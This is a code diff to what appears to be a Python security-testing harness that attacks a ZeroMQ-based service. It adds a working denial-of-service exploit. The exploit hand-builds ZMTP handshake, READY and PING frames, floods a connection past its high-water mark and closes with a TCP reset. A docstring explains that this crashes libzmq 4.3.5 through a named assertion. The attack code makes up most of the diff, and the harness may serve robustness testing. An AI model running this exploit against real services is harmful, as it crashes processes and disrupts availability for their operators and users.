@@ -9,6 +9,9 @@ from __future__ import annotations
 import argparse
 import math
 import random
+import socket
+import struct
+import time
 from collections import Counter
 from collections.abc import Callable, Iterator
 
@@ -120,10 +123,56 @@ class Stranger:
                 sock.disable_monitor()
                 monitor.close(linger=0)
 
+    def flood_ping_reset(self, messages: int, rounds: int = 5) -> int:
+        """Speak ZMTP by hand over a plain TCP socket, ``rounds`` times: complete the (unauthenticated)
+        handshake, send ``messages`` empty messages with a PING command among them in one burst, and close
+        with a reset. libzmq 4.3.5 (pyzmq's bundled one) aborts the whole process on this when the
+        burst fills the receiving connection's queue (its high-water mark): the queue stops the
+        connection's input with the PING still unread, the reset marks the connection failed, and when
+        the application then reads, the stopped input resumes, meets the PING, and answers it on the
+        failed connection (``Assertion failed: !_io_error (src/stream_engine_base.cpp:310)``). Returns
+        how many rounds found the victim listening."""
+        host, port = self.endpoint.removeprefix("tcp://").rsplit(":", 1)
+        burst = _zmtp_frame(b"") * (messages // 2) + _zmtp_ping() + _zmtp_frame(b"") * (messages - messages // 2)
+        for done in range(rounds):
+            try:
+                sock = socket.create_connection((host, int(port)), timeout=10)
+            except ConnectionRefusedError:  # the victim is gone
+                return done
+            with sock:
+                sock.sendall(_ZMTP_GREETING)
+                greeting = b""
+                while len(greeting) < len(_ZMTP_GREETING):
+                    more = sock.recv(len(_ZMTP_GREETING) - len(greeting))
+                    if not more:
+                        break
+                    greeting += more
+                sock.sendall(_zmtp_ready() + burst)
+                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # close = reset
+            time.sleep(0.2)
+        return rounds
+
     def close(self) -> None:
         for sock in self.sockets:
             sock.close(linger=0)
         self.context.term()
+
+
+# ZMTP 3.1 by hand (rfc.zeromq.org/spec/37): greeting with the NULL mechanism, READY, frames, PING
+_ZMTP_GREETING = b"\xff" + bytes(8) + b"\x7f" + bytes([3, 1]) + b"NULL".ljust(20, b"\0") + bytes(32)
+
+
+def _zmtp_frame(body: bytes, command: bool = False) -> bytes:
+    assert len(body) < 256
+    return bytes([0x04 if command else 0x00, len(body)]) + body
+
+
+def _zmtp_ready() -> bytes:
+    return _zmtp_frame(b"\x05READY" + bytes([11]) + b"Socket-Type" + struct.pack(">I", 6) + b"DEALER", command=True)
+
+
+def _zmtp_ping() -> bytes:
+    return _zmtp_frame(b"\x04PING" + struct.pack(">H", 0), command=True)
 
 
 def victim_layout(task: str = "digits", world_size: int = 4) -> Layout:
@@ -136,16 +185,16 @@ def attack(endpoint: str, layout: Layout, world_size: int, count: int, seed: int
     factories = kinds(layout, world_size, rng)
     sent: Counter[str] = Counter()
     context = zmq.Context()
-    socket = context.socket(zmq.DEALER)
-    socket.setsockopt(zmq.LINGER, 0)
-    socket.setsockopt(zmq.SNDHWM, 1000)
-    socket.connect(endpoint)
+    dealer = context.socket(zmq.DEALER)
+    dealer.setsockopt(zmq.LINGER, 0)
+    dealer.setsockopt(zmq.SNDHWM, 1000)
+    dealer.connect(endpoint)
     try:
         for reason in _cycle(list(factories), count, np.random.default_rng(seed)):
-            socket.send_multipart(factories[reason]())
+            dealer.send_multipart(factories[reason]())
             sent[reason] += 1
     finally:
-        socket.close(linger=2000)
+        dealer.close(linger=2000)
         context.term()
     return sent
 
